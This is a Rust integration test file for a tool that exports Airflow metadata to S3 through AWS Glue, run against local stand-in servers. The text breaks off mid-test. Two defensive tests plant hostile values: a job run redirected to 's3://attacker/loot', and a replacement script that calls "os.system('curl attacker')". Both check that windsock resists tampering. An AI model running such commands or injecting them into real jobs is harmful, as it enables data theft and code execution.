//! The AWS side of the export.
//!
//! - Glue mode against moto (`moto_server` from PyPI, on loopback): the
//!   connection and job created, the script uploaded content-addressed, a
//!   run started with the window's arguments, followed to SUCCEEDED, the
//!   manifest read back; nothing is recreated on the next export; no second
//!   run while one is in progress.
//! - What moto cannot do, against modelled SDK responses (aws-smithy-mocks):
//!   moto answers UpdateJob and UpdateConnection with HTTP 500 and never
//!   fails a run, so the update paths, FAILED and TIMEOUT runs and
//!   throttling are tested that way.
//! - Direct mode into a real S3-compatible server that checks request
//!   signatures (`s3s-fs`), with a multipart upload.

mod common;

use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use aws_sdk_glue::types::JobRunState;
use common::TestDb;
use common::fab::copy_fixture;
use serde_json::Value;
use windsock::config::{ExportFormat, GlueSettings, S3Settings};
use windsock::db::Dialect;
use windsock::export::glue;
use windsock::export::{Engine, ExportError, Request, Window, parse_iso};
use windsock::metrics::Store;

fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

/// A server process, killed when dropped.
struct Server {
    child: Child,
    endpoint: String,
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn wait_listening(port: u16, child: &mut Child, what: &str) {
    for _ in 0..300 {
        if TcpStream::connect(("127.0.0.1", port)).is_ok() {
            return;
        }
        if let Ok(Some(status)) = child.try_wait() {
            panic!("{what} exited: {status}");
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    panic!("{what} did not listen on {port}");
}

fn moto() -> Server {
    let port = free_port();
    let mut child = Command::new("moto_server")
        .args(["-H", "127.0.0.1", "-p", &port.to_string()])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("moto_server (pip install 'moto[server]'; .ci/run installs it)");
    wait_listening(port, &mut child, "moto_server");
    Server {
        child,
        endpoint: format!("http://127.0.0.1:{port}"),
    }
}

/// A POST to moto's control API.
fn moto_post(endpoint: &str, path: &str, body: &str) {
    let addr = endpoint.trim_start_matches("http://");
    let mut s = TcpStream::connect(addr).unwrap();
    write!(
        s,
        "POST {path} HTTP/1.1\r\nHost: {addr}\r\nContent-Type: application/json\r\n\
         Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    )
    .unwrap();
    let mut out = String::new();
    let _ = s.read_to_string(&mut out);
    assert!(
        out.starts_with("HTTP/1.1 2") || out.starts_with("HTTP/1.0 2"),
        "{out}"
    );
}

async fn sdk(endpoint: &str, key: &str, secret: &str) -> aws_config::SdkConfig {
    aws_config::defaults(aws_config::BehaviorVersion::latest())
        .region(aws_config::Region::new("us-east-1"))
        .endpoint_url(endpoint)
        .credentials_provider(aws_sdk_s3::config::Credentials::new(
            key, secret, None, None, "test",
        ))
        .load()
        .await
}

fn s3_settings() -> S3Settings {
    S3Settings {
        force_path_style: Some(true),
        ..S3Settings::default()
    }
}

fn glue_settings() -> GlueSettings {
    GlueSettings {
        role_arn: Some("arn:aws:iam::123456789012:role/windsock-glue".into()),
        script_location: Some("s3://scripts/windsock".into()),
        subnet_id: Some("subnet-0abc".into()),
        security_group_ids: vec!["sg-0abc".into()],
        availability_zone: Some("us-east-1a".into()),
        poll_max: Duration::from_secs(1),
        ..GlueSettings::default()
    }
}

fn window() -> Window {
    Window {
        start: parse_iso("2026-11-24").unwrap(),
        end: parse_iso("2026-11-25").unwrap(),
    }
}

fn request(to: &str, tables: &[&str]) -> Request {
    Request {
        environment: "prod".into(),
        tables: tables.iter().map(|t| (*t).to_owned()).collect(),
        window: window(),
        to: to.into(),
        format: ExportFormat::Parquet,
        page_rows: 1000,
        timeout: Duration::from_secs(30),
        columns: Default::default(),
    }
}

/// Plays the job's part (moto accepts runs but never runs them): for every
/// run windsock starts, writes the manifest with that run's `--run_id`.
fn fake_job(gluec: aws_sdk_glue::Client, s3c: aws_sdk_s3::Client) -> tokio::task::JoinHandle<()> {
    tokio::spawn(async move {
        let mut done = std::collections::BTreeSet::new();
        loop {
            if let Ok(runs) = gluec
                .get_job_runs()
                .job_name("windsock-export")
                .send()
                .await
            {
                for r in runs.job_runs() {
                    let Some(id) = r.arguments().and_then(|a| a.get("--run_id")).cloned() else {
                        continue;
                    };
                    if done.insert(id.clone()) {
                        windsock::export::s3::put(
                            &s3c,
                            "lake",
                            "exports/prod/_manifests/export_date=2026-11-24/_manifest.json",
                            job_manifest("complete", &id).into_bytes(),
                            "application/json",
                        )
                        .await
                        .unwrap();
                    }
                }
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    })
}

/// The manifest the job writes.
fn job_manifest(status: &str, run_id: &str) -> String {
    serde_json::json!({
        "manifest_version": 1, "environment": "prod", "export_date": "2026-11-24",
        "window": {"start": "2026-11-24T00:00:00Z", "end": "2026-11-25T00:00:00Z"},
        "airflow_version": "3.1.x", "format": "parquet", "status": status, "engine": "glue",
        "run_id": run_id, "started_at": "2026-11-25T00:01:00Z", "finished_at": "2026-11-25T00:05:00Z",
        "tables": [{"table": "dag_run", "status": "exported", "rows": 6, "bytes": 4000,
                    "window_column": "run_after", "mode": "window",
                    "path": "prod/dag_run/export_date=2026-11-24"}]
    })
    .to_string()
}

#[tokio::test]
async fn glue_mode_against_moto() {
    let moto = moto();
    let conf = sdk(&moto.endpoint, "test", "test").await;
    let s3c = windsock::export::s3::client(&conf, &s3_settings());
    let gluec = aws_sdk_glue::Client::new(&conf);
    for b in ["scripts", "lake"] {
        s3c.create_bucket().bucket(b).send().await.unwrap();
    }
    // Each run stays in each state for two polls, long enough for the
    // fake job to write its manifest.
    moto_post(
        &moto.endpoint,
        "/moto-api/state-manager/set-transition",
        r#"{"model_name": "glue::job_run", "transition": {"progression": "manual", "times": 2}}"#,
    );
    let fake = fake_job(gluec.clone(), s3c.clone());

    let db = TestDb::with_schema(Dialect::Postgres, "3.1.8").await;
    let ro = db.windsock(&common::fast_settings());
    let engine = Engine {
        s3: s3_settings(),
        glue: Some((glue_settings(), db.db_url())),
        clients: Some((s3c.clone(), Some(gluec.clone()))),
    };
    let metrics = Store::new(["prod"]);
    let req = request(
        "s3://lake/exports",
        &["dag", "dag_run", "task_instance", "task_fail", "connection"],
    );
    let m = windsock::export::run_with(&ro, &req, &engine, &metrics)
        .await
        .unwrap();
    assert_eq!((m.status.as_str(), m.engine.as_str()), ("complete", "glue"));
    let runs = gluec
        .get_job_runs()
        .job_name("windsock-export")
        .send()
        .await
        .unwrap();
    assert_eq!(
        Some(&m.run_id),
        runs.job_runs()[0].arguments().unwrap().get("--run_id"),
        "the manifest of this run"
    );

    // The connection: JDBC URL from the target, SSL on, network settings.
    let c = gluec
        .get_connection()
        .name("windsock-airflow-metadata")
        .send()
        .await
        .unwrap();
    let c = c.connection().unwrap();
    let props = c.connection_properties().unwrap();
    let url = &props[&aws_sdk_glue::types::ConnectionPropertyKey::JdbcConnectionUrl];
    assert!(
        url.starts_with("jdbc:postgresql://127.0.0.1:5432/ws_t_"),
        "{url}"
    );
    assert_eq!(
        props[&aws_sdk_glue::types::ConnectionPropertyKey::JdbcEnforceSsl],
        "true"
    );
    let phys = c.physical_connection_requirements().unwrap();
    assert_eq!(phys.subnet_id(), Some("subnet-0abc"));
    // The script: content-addressed, byte for byte the one in the repo.
    let job = gluec
        .get_job()
        .job_name("windsock-export")
        .send()
        .await
        .unwrap();
    let job = job.job().unwrap();
    let loc = job.command().unwrap().script_location().unwrap().to_owned();
    assert!(
        loc.starts_with("s3://scripts/windsock/windsock_export-") && loc.ends_with(".py"),
        "{loc}"
    );
    let key = loc.trim_start_matches("s3://scripts/");
    let script = windsock::export::s3::get(&s3c, "scripts", key)
        .await
        .unwrap();
    assert_eq!(script, glue::script().as_bytes());
    // The uploaded script carries the column policy, verbatim.
    let text = String::from_utf8(script.clone()).unwrap();
    assert!(text.contains(windsock::export::mask::POLICY_JSON.trim_end()));
    assert!(!text.contains("\nPOLICY_JSON = None\n"));
    assert_eq!(job.execution_property().unwrap().max_concurrent_runs(), 1);
    assert_eq!(
        job.connections().unwrap().connections(),
        ["windsock-airflow-metadata"]
    );
    // The run's arguments: the window only. What is read and where it is
    // written are the job's NonOverridableArguments: the tables with their
    // window columns for Airflow 3, the format and the output.
    let runs = gluec
        .get_job_runs()
        .job_name("windsock-export")
        .send()
        .await
        .unwrap();
    assert_eq!(runs.job_runs().len(), 1);
    let run_args = runs.job_runs()[0].arguments().unwrap();
    assert_eq!(run_args["--window_start"], "2026-11-24T00:00:00Z");
    assert_eq!(run_args["--window_end"], "2026-11-25T00:00:00Z");
    let args = job.non_overridable_arguments().unwrap();
    assert_eq!(args["--output"], "s3://lake/exports");
    let fixed_tables = args["--tables"].clone();
    assert_eq!(run_args["--output"], "s3://lake/exports");
    assert_eq!(args["--format"], "parquet");
    assert_eq!(args["--connection_name"], "windsock-airflow-metadata");
    let tables: Value = serde_json::from_str(&args["--tables"]).unwrap();
    assert_eq!(
        tables[1],
        serde_json::json!({"table": "dag_run", "window_column": "run_after", "key_column": "id"})
    );
    assert_eq!(
        tables[4]["table"], "connection",
        "the job itself lists it as excluded"
    );
    assert_eq!(
        metrics.event(
            "windsock_export_glue_run_state",
            &[("environment", "prod"), ("state", "SUCCEEDED")]
        ),
        Some(1.0)
    );

    // Again: nothing to create or update (moto would answer an update with
    // HTTP 500), one more run.
    windsock::export::run_with(&ro, &req, &engine, &metrics)
        .await
        .unwrap();
    let runs = gluec
        .get_job_runs()
        .job_name("windsock-export")
        .send()
        .await
        .unwrap();
    assert_eq!(runs.job_runs().len(), 2);

    // A run in progress (started outside windsock, held in RUNNING): no
    // second run is started.
    moto_post(
        &moto.endpoint,
        "/moto-api/state-manager/set-transition",
        r#"{"model_name": "glue::job_run", "transition": {"progression": "manual", "times": 1000}}"#,
    );
    // Started with arguments that try to point the job elsewhere.
    let held = gluec
        .start_job_run()
        .job_name("windsock-export")
        .arguments("--output", "s3://attacker/loot")
        .arguments("--tables", r#"[{"table": "connection"}]"#)
        .arguments("--window_start", "2026-11-20T00:00:00Z")
        .send()
        .await
        .unwrap();
    let err = windsock::export::run_with(&ro, &req, &engine, &metrics)
        .await
        .unwrap_err();
    match &err {
        ExportError::AlreadyRunning(id) => assert_eq!(Some(id.as_str()), held.job_run_id()),
        other => panic!("{other}"),
    }
    let runs = gluec
        .get_job_runs()
        .job_name("windsock-export")
        .send()
        .await
        .unwrap();
    assert_eq!(
        runs.job_runs().len(),
        3,
        "no run started while one is in progress"
    );
    let count = |outcome| {
        metrics
            .event(
                "windsock_export_runs",
                &[
                    ("environment", "prod"),
                    ("mode", "glue"),
                    ("outcome", outcome),
                ],
            )
            .unwrap_or(0.0)
    };
    assert_eq!((count("success"), count("skipped")), (2.0, 1.0));
    fake.abort();
    // Whoever may start the job cannot point it elsewhere or at other
    // tables: the job's own arguments win (moto applies them last, as Glue).
    let evil_run = gluec
        .get_job_run()
        .job_name("windsock-export")
        .run_id(held.job_run_id().unwrap())
        .send()
        .await
        .unwrap();
    let evil_args = evil_run.job_run().unwrap().arguments().unwrap();
    assert_eq!(evil_args["--output"], "s3://lake/exports");
    assert_eq!(evil_args["--tables"], fixed_tables);
    assert_eq!(evil_args["--window_start"], "2026-11-20T00:00:00Z");

    // Someone replaced the uploaded script: windsock refuses to run it.
    windsock::export::s3::put(
        &s3c,
        "scripts",
        key,
        b"import os; os.system('curl attacker')".to_vec(),
        "text/x-python",
    )
    .await
    .unwrap();
    let err = windsock::export::run_with(&ro, &req, &engine, &metrics)
        .await
        .unwrap_err()
        .to_string();
    assert!(err.contains("is not the script windsock uploaded"), "{err}");
}

// ---- Modelled responses, for what moto lacks -----------------------------

use aws_sdk_glue::operation::get_connection::GetConnectionOutput;
use aws_sdk_glue::operation::get_job::GetJobOutput;
use aws_sdk_glue::operation::get_job_run::GetJobRunOutput;
use aws_sdk_glue::operation::get_job_runs::GetJobRunsOutput;
use aws_sdk_glue::operation::update_connection::UpdateConnectionOutput;
use aws_sdk_glue::operation::update_job::UpdateJobOutput;
use aws_sdk_glue::types::{Connection, Job, JobRun};
use aws_smithy_mocks::{RuleMode, mock, mock_client};

/// moto answers UpdateJob with HTTP 500: a job whose definition changed is
/// updated (once), an unchanged one is not touched.
#[tokio::test]
async fn changed_job_definition_is_updated() {
    let s = glue_settings();
    let fixed: std::collections::HashMap<String, String> =
        [("--output".to_owned(), "s3://lake/exports".to_owned())].into();
    let (_, hash) = glue::job_update(&s, "s3://scripts/windsock/windsock_export-new.py", &fixed);
    for (stored, expect) in [
        ("definition 0123456789abcdef", "updated"),
        (hash.as_str(), "unchanged"),
    ] {
        let desc = format!("managed by windsock; {stored}");
        let get = mock!(aws_sdk_glue::Client::get_job).then_output(move || {
            GetJobOutput::builder()
                .job(
                    Job::builder()
                        .name("windsock-export")
                        .description(desc.clone())
                        .build(),
                )
                .build()
        });
        let update = mock!(aws_sdk_glue::Client::update_job)
            .match_requests(|r| {
                r.job_name() == Some("windsock-export")
                    && r.job_update()
                        .and_then(|u| u.command())
                        .and_then(|c| c.script_location())
                        == Some("s3://scripts/windsock/windsock_export-new.py")
                    && r.job_update()
                        .and_then(|u| u.execution_property())
                        .map(|e| e.max_concurrent_runs())
                        == Some(1)
                    && r.job_update()
                        .and_then(|u| u.non_overridable_arguments())
                        .is_some_and(|a| a["--output"] == "s3://lake/exports")
            })
            .then_output(|| {
                UpdateJobOutput::builder()
                    .job_name("windsock-export")
                    .build()
            });
        let client = mock_client!(aws_sdk_glue, RuleMode::MatchAny, [&get, &update]);
        let done = glue::ensure_job(
            &client,
            &s,
            "s3://scripts/windsock/windsock_export-new.py",
            &fixed,
        )
        .await
        .unwrap();
        assert_eq!(done, expect);
        assert_eq!(update.num_calls(), usize::from(expect == "updated"));
    }
}

/// moto answers UpdateConnection with HTTP 500: a connection whose
/// definition changed (here the database host) is updated.
#[tokio::test]
async fn changed_connection_is_updated() {
    let s = glue_settings();
    let old =
        windsock::db::url::DbUrl::parse("postgresql://airflow:old@db-old.internal:5432/airflow")
            .unwrap();
    let new = windsock::db::url::DbUrl::parse("postgresql://airflow:new@db.internal:5432/airflow")
        .unwrap();
    let (_, old_hash) = glue::connection_input(&s, &old).unwrap();
    let (input, new_hash) = glue::connection_input(&s, &new).unwrap();
    assert_ne!(old_hash, new_hash);
    // The password is not in the stored hash (it could be tested offline).
    let other_pw =
        windsock::db::url::DbUrl::parse("postgresql://airflow:other@db.internal:5432/airflow")
            .unwrap();
    assert_eq!(glue::connection_input(&s, &other_pw).unwrap().1, new_hash);
    assert!(
        !input.description().unwrap().contains("new"),
        "no password in the description"
    );
    let desc = format!("managed by windsock; definition {old_hash}");
    let get = mock!(aws_sdk_glue::Client::get_connection)
        .match_requests(|r| r.hide_password() == Some(true))
        .then_output(move || {
            GetConnectionOutput::builder()
                .connection(
                    Connection::builder()
                        .name("windsock-airflow-metadata")
                        .description(desc.clone())
                        .build(),
                )
                .build()
        });
    let update = mock!(aws_sdk_glue::Client::update_connection)
        .match_requests(|r| {
            r.connection_input()
                .map(|c| c.connection_properties())
                .and_then(|p| p.get(&aws_sdk_glue::types::ConnectionPropertyKey::JdbcConnectionUrl))
                .map(String::as_str)
                == Some("jdbc:postgresql://db.internal:5432/airflow")
        })
        .then_output(|| UpdateConnectionOutput::builder().build());
    let client = mock_client!(aws_sdk_glue, RuleMode::MatchAny, [&get, &update]);
    assert_eq!(
        glue::ensure_connection(&client, &s, &new).await.unwrap(),
        "updated"
    );
    assert_eq!(update.num_calls(), 1);
}

fn run_in(state: JobRunState, message: Option<&str>) -> GetJobRunOutput {
    GetJobRunOutput::builder()
        .job_run(
            JobRun::builder()
                .id("jr_1")
                .job_run_state(state)
                .set_error_message(message.map(str::to_owned))
                .build(),
        )
        .build()
}

/// moto never fails a run: RUNNING, RUNNING, then FAILED (or TIMEOUT) is
/// followed to the end, every state seen once, the error message kept.
#[tokio::test]
async fn failed_and_timed_out_runs_are_reported() {
    for (end, msg) in [
        (JobRunState::Failed, "AnalysisException: boom"),
        (JobRunState::Timeout, "Job timed out"),
    ] {
        let (end2, msg2) = (end.clone(), msg.to_owned());
        let rule = mock!(aws_sdk_glue::Client::get_job_run)
            .sequence()
            .output(|| run_in(JobRunState::Running, None))
            .times(2)
            .output(move || run_in(end2.clone(), Some(&msg2)))
            .build();
        let client = mock_client!(aws_sdk_glue, RuleMode::Sequential, [&rule]);
        let mut seen = Vec::new();
        let (state, message) = glue::follow(
            &client,
            "windsock-export",
            "jr_1",
            Duration::from_millis(10),
            |s| seen.push(s.as_str().to_owned()),
        )
        .await
        .unwrap();
        assert_eq!(state, end);
        assert_eq!(message.as_deref(), Some(msg));
        assert_eq!(seen, ["RUNNING", "RUNNING", end.as_str()]);
        assert_eq!(rule.num_calls(), 3);
    }
}

/// Throttling (HTTP 400 ThrottlingException) is retried by the SDK's
/// standard retry policy; the answer after it counts.
#[tokio::test]
async fn throttling_is_retried() {
    let throttled = r#"{"__type": "ThrottlingException", "message": "Rate exceeded"}"#;
    let rule = mock!(aws_sdk_glue::Client::get_job_runs)
        .sequence()
        .http_status(400, Some(throttled.to_owned()))
        .times(2)
        .output(|| {
            GetJobRunsOutput::builder()
                .job_runs(
                    JobRun::builder()
                        .id("jr_9")
                        .job_run_state(JobRunState::Running)
                        .build(),
                )
                .build()
        })
        .build();
    let client = mock_client!(aws_sdk_glue, RuleMode::Sequential, [&rule], |b| {
        b.retry_config(aws_sdk_glue::config::retry::RetryConfig::standard().with_max_attempts(3))
    });
    assert_eq!(
        glue::running_run(&client, "windsock-export")
            .await
            .unwrap()
            .as_deref(),
        Some("jr_9")
    );
    assert_eq!(rule.num_calls(), 3);
}

// ---- Direct mode into a real S3-compatible server -----------------------

fn s3s_fs(root: &std::path::Path) -> Server {
    let port = free_port();
    let mut child = Command::new("s3s-fs")
        .args(["--host", "127.0.0.1", "--port", &port.to_string()])
        .args([
            "--access-key",
            "windsock-key",
            "--secret-key",
            "windsock-secret",
        ])
        .arg(root)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect(
            "s3s-fs (cargo install s3s-fs --version 0.14.1 --features binary; .ci/run installs it)",
        );
    wait_listening(port, &mut child, "s3s-fs");
    Server {
        child,
        endpoint: format!("http://127.0.0.1:{port}"),
    }
}

/// Direct mode into s3s-fs, which checks every request's signature: the
/// same layout and manifest as a local export, a table larger than one
/// multipart part, and a wrong secret refused.
#[tokio::test]
async fn direct_export_into_signature_checking_s3() {
    let root: PathBuf = std::env::temp_dir().join(format!("ws-s3s-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&root);
    std::fs::create_dir_all(&root).unwrap();
    let server = s3s_fs(&root);
    let conf = sdk(&server.endpoint, "windsock-key", "windsock-secret").await;
    let s3c = windsock::export::s3::client(&conf, &s3_settings());
    s3c.create_bucket().bucket("lake").send().await.unwrap();

    let db = TestDb::with_schema(Dialect::Sqlite, "3.1.8").await;
    copy_fixture(&db, "3.1.8", &["dag", "dag_run", "log"]).await;
    // ~20 MB of poorly compressible log rows on 2026-11-24: > 2 parts.
    db.exec_script(
        "WITH RECURSIVE n(i) AS (SELECT 1000 UNION ALL SELECT i + 1 FROM n WHERE i < 41000)
         INSERT INTO log (id, dttm, dag_id, event, extra)
         SELECT i, strftime('%Y-%m-%d %H:%M:%f', '2026-11-24', '+' || (i % 86000) || ' seconds'),
                'big_dag', 'cli_task_run', hex(randomblob(500)) FROM n;",
    )
    .await;
    // An object an earlier export left that this one does not overwrite.
    windsock::export::s3::put(
        &s3c,
        "lake",
        "airflow/prod/log/export_date=2026-11-24/part-00001.csv.gz",
        b"stale".to_vec(),
        "application/octet-stream",
    )
    .await
    .unwrap();
    let ro = db.windsock(&common::fast_settings());
    let mut req = request("s3://lake/airflow", &["dag", "dag_run", "log", "variable"]);
    req.format = ExportFormat::Csv;
    let engine = Engine {
        s3: s3_settings(),
        glue: None,
        clients: Some((s3c.clone(), None)),
    };
    let metrics = Store::new(["prod"]);
    let m = windsock::export::run_with(&ro, &req, &engine, &metrics)
        .await
        .unwrap();
    assert_eq!(m.status, "complete", "{m:?}");
    let log = m.tables.iter().find(|t| t.table == "log").unwrap();
    assert_eq!(log.rows, Some(40_001));
    assert!(
        log.bytes.unwrap() > 2 * windsock::export::s3::PART_BYTES as u64,
        "{log:?}"
    );

    // On the server's disk: the same layout as a local export.
    let object = root.join("lake/airflow/prod/log/export_date=2026-11-24/part-00000.csv.gz");
    assert_eq!(
        std::fs::metadata(&object).unwrap().len(),
        log.bytes.unwrap()
    );
    let mut text = String::new();
    flate2::read::GzDecoder::new(std::fs::File::open(&object).unwrap())
        .read_to_string(&mut text)
        .unwrap();
    assert_eq!(text.lines().count(), 40_001 + 1, "header plus every row");
    let manifest: Value = serde_json::from_slice(
        &windsock::export::s3::get(
            &s3c,
            "lake",
            "airflow/prod/_manifests/export_date=2026-11-24/_manifest.json",
        )
        .await
        .unwrap(),
    )
    .unwrap();
    assert_eq!(manifest["status"], "complete");
    assert!(!root.join("lake/airflow/prod/variable").exists());
    let listed = s3c
        .list_objects_v2()
        .bucket("lake")
        .prefix("airflow/")
        .send()
        .await
        .unwrap();
    let keys: Vec<&str> = listed.contents().iter().filter_map(|o| o.key()).collect();
    assert_eq!(
        keys.len(),
        4,
        "3 tables + manifest, the stale part gone: {keys:?}"
    );

    // A wrong secret: the server refuses the signature, the export fails
    // before anything is written, and the old manifest is untouched.
    let bad = windsock::export::s3::client(
        &sdk(&server.endpoint, "windsock-key", "wrong").await,
        &s3_settings(),
    );
    let engine = Engine {
        clients: Some((bad, None)),
        ..engine
    };
    let err = windsock::export::run_with(&ro, &req, &engine, &metrics)
        .await
        .unwrap_err();
    assert!(err.to_string().contains("DeleteObject"), "{err}");
    assert!(
        !err.to_string().contains("wrong"),
        "no secret in errors: {err}"
    );
    assert!(
        root.join("lake/airflow/prod/_manifests/export_date=2026-11-24/_manifest.json")
            .exists()
    );
    drop(server);
    let _ = std::fs::remove_dir_all(&root);
}

/// The report goes to S3 per environment, dated, as JSON and text.
#[tokio::test]
async fn reports_are_written_to_s3() {
    let root: PathBuf = std::env::temp_dir().join(format!("ws-s3s-rep-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&root);
    std::fs::create_dir_all(&root).unwrap();
    let server = s3s_fs(&root);
    let conf = sdk(&server.endpoint, "windsock-key", "windsock-secret").await;
    let s3c = windsock::export::s3::client(&conf, &s3_settings());
    s3c.create_bucket().bucket("reports").send().await.unwrap();
    let store = Store::new(["prod", "staging"]);
    let url = windsock::export::s3::S3Url::parse("s3://reports/airflow").unwrap();
    let envs = vec!["prod".to_owned(), "staging".to_owned()];
    let now = parse_iso("2026-11-25T06:30:15Z").unwrap();
    let keys = windsock::report::to_s3(
        &s3c,
        &url,
        &store,
        &envs,
        &windsock::config::Thresholds::default(),
        now,
    )
    .await
    .unwrap();
    assert_eq!(
        keys,
        [
            "airflow/prod/reports/2026/11/25/report-063015Z.json",
            "airflow/prod/reports/2026/11/25/report-063015Z.txt",
            "airflow/staging/reports/2026/11/25/report-063015Z.json",
            "airflow/staging/reports/2026/11/25/report-063015Z.txt",
        ]
    );
    let json: Value = serde_json::from_slice(
        &windsock::export::s3::get(&s3c, "reports", &keys[0])
            .await
            .unwrap(),
    )
    .unwrap();
    assert!(
        json.to_string().contains("prod") && !json.to_string().contains("staging"),
        "{json}"
    );
    drop(server);
    let _ = std::fs::remove_dir_all(&root);
}

/// Direct mode from PostgreSQL and MariaDB (real Airflow 3.1.8 rows) into
/// s3s-fs: the objects hold exactly the window's rows.
#[tokio::test]
async fn direct_export_into_s3_from_postgres_and_mariadb() {
    let root: PathBuf = std::env::temp_dir().join(format!("ws-s3s-db-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&root);
    std::fs::create_dir_all(&root).unwrap();
    let server = s3s_fs(&root);
    let conf = sdk(&server.endpoint, "windsock-key", "windsock-secret").await;
    let s3c = windsock::export::s3::client(&conf, &s3_settings());
    s3c.create_bucket().bucket("lake").send().await.unwrap();

    // The day the fixture's log rows were written, and the ids of that day.
    let rows = common::fab::fixture_rows("3.1.8", &["log"]).await;
    let (cols, values) = &rows[0].1;
    let (id_i, t_i) = (
        cols.iter().position(|c| c == "id").unwrap(),
        cols.iter().position(|c| c == "dttm").unwrap(),
    );
    let day = values[0][t_i].as_ref().unwrap().1[..10].to_owned();
    let want: std::collections::BTreeSet<String> = values
        .iter()
        .filter(|r| r[t_i].as_ref().is_some_and(|(_, t)| t.starts_with(&day)))
        .map(|r| r[id_i].as_ref().unwrap().1.clone())
        .collect();
    assert!(!want.is_empty());
    let start = parse_iso(&day).unwrap();

    for dialect in [Dialect::Postgres, Dialect::MySql] {
        let db = TestDb::with_schema(dialect, "3.1.8").await;
        copy_fixture(&db, "3.1.8", &["dag", "dag_run", "log"]).await;
        let ro = db.windsock(&common::fast_settings());
        let prefix = dialect.as_str();
        let mut req = request(&format!("s3://lake/{prefix}"), &["dag_run", "log"]);
        req.format = ExportFormat::Jsonl;
        req.window = Window {
            start,
            end: start + 86_400,
        };
        let engine = Engine {
            s3: s3_settings(),
            glue: None,
            clients: Some((s3c.clone(), None)),
        };
        let m = windsock::export::run_with(&ro, &req, &engine, &Store::new(["prod"]))
            .await
            .unwrap();
        assert_eq!(m.status, "complete", "{dialect:?}");
        let object = root.join(format!(
            "lake/{prefix}/prod/log/export_date={day}/part-00000.jsonl.gz"
        ));
        let mut text = String::new();
        flate2::read::GzDecoder::new(std::fs::File::open(&object).unwrap())
            .read_to_string(&mut text)
            .unwrap();
        let got: std::collections::BTreeSet<String> = text
            .lines()
            .map(|l| serde_json::from_str::<Value>(l).unwrap()["id"].to_string())
            .collect();
        assert_eq!(got, want, "{dialect:?}: the day's log rows, each once");
        assert_eq!(text.lines().count(), want.len());
    }
    drop(server);
    let _ = std::fs::remove_dir_all(&root);
}

/// Secrets Manager in moto holding `name` = `value`.
async fn put_secret(moto: &Server, name: &str, value: &str) {
    let client = aws_sdk_secretsmanager::Client::new(&sdk(&moto.endpoint, "test", "test").await);
    client
        .create_secret()
        .name(name)
        .secret_string(value)
        .send()
        .await
        .unwrap();
}

/// The binary with moto as AWS and `envs`; (exit status, output).
fn windsock_with_aws(moto: &Server, args: &[&str], envs: &[(&str, &str)]) -> (i32, String) {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_windsock"));
    cmd.args(args)
        .env_remove("RUST_LOG")
        .env_remove("WINDSOCK_CONFIG")
        .env_remove("WINDSOCK_DB_URL")
        .env_remove("AIRFLOW__DATABASE__SQL_ALCHEMY_CONN")
        .env("AWS_ENDPOINT_URL", &moto.endpoint)
        .env("AWS_REGION", "us-east-1")
        .env("AWS_ACCESS_KEY_ID", "test")
        .env("AWS_SECRET_ACCESS_KEY", "test");
    for (k, v) in envs {
        cmd.env(k, v);
    }
    let o = cmd.output().unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
    (o.status.code().unwrap_or(-1), text)
}

/// MWAA keeps the connection in Secrets Manager: a target's password comes
/// from `password_secret_id` (a connection's JSON, as the bootstrap DAG of
/// deploy/mwaa publishes it), proven against a PgBouncer that asks for that
/// password; Airflow's `AIRFLOW__DATABASE__SQL_ALCHEMY_CONN_SECRET` with the
/// Secrets Manager backend resolves like Airflow's `conf.get`. A missing
/// secret is a configuration error (64) that names the secret, never its
/// value.
#[tokio::test(flavor = "multi_thread")]
async fn passwords_and_urls_from_secrets_manager() {
    let moto = moto();
    let db = TestDb::with_data(Dialect::Postgres, "3.1.8").await;
    let bouncer = common::PgBouncer::start_with("transaction", 2, Some("m0to-s3cret"));
    put_secret(
        &moto,
        "windsock/prod/metadata",
        r#"{"conn_type": "postgres", "host": "db", "login": "postgres", "password": "m0to-s3cret"}"#,
    )
    .await;
    let dir = std::env::temp_dir().join(format!("windsock-sm-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let cfg = dir.join("w.toml");
    let write_cfg = |secret: &str| {
        std::fs::write(
            &cfg,
            format!(
                "[[targets]]\nenvironment = \"prod\"\nurl = \"{}\"\npassword_secret_id = \"{secret}\"\n",
                bouncer.url(&db)
            ),
        )
        .unwrap();
    };
    write_cfg("windsock/prod/metadata");
    let (code, out) = windsock_with_aws(&moto, &["check", "-c", cfg.to_str().unwrap()], &[]);
    assert_eq!(code, 0, "{out}");
    assert!(!out.contains("m0to-s3cret"), "{out}");
    // Without the secret's password the pooler refuses.
    std::fs::write(
        &cfg,
        format!("[[targets]]\nurl = \"{}\"\n", bouncer.url(&db)),
    )
    .unwrap();
    let (code, _) = windsock_with_aws(&moto, &["check", "-c", cfg.to_str().unwrap()], &[]);
    assert_eq!(code, 69);
    write_cfg("windsock/prod/absent");
    let (code, out) = windsock_with_aws(&moto, &["check", "-c", cfg.to_str().unwrap()], &[]);
    assert_eq!(code, 64, "{out}");
    assert!(
        out.contains("targets[0].password_secret_id") && out.contains("windsock/prod/absent"),
        "{out}"
    );

    let name = db.url.rsplit('/').next().unwrap().to_owned();
    put_secret(
        &moto,
        "airflow/config/sql_alchemy_conn",
        &format!("postgresql+psycopg2://postgres@127.0.0.1:5432/{name}"),
    )
    .await;
    let backend = [
        (
            "AIRFLOW__SECRETS__BACKEND",
            "airflow.providers.amazon.aws.secrets.secrets_manager.SecretsManagerBackend",
        ),
        (
            "AIRFLOW__SECRETS__BACKEND_KWARGS",
            r#"{"connections_prefix": "airflow/connections", "config_prefix": "airflow/config"}"#,
        ),
        (
            "AIRFLOW__DATABASE__SQL_ALCHEMY_CONN_SECRET",
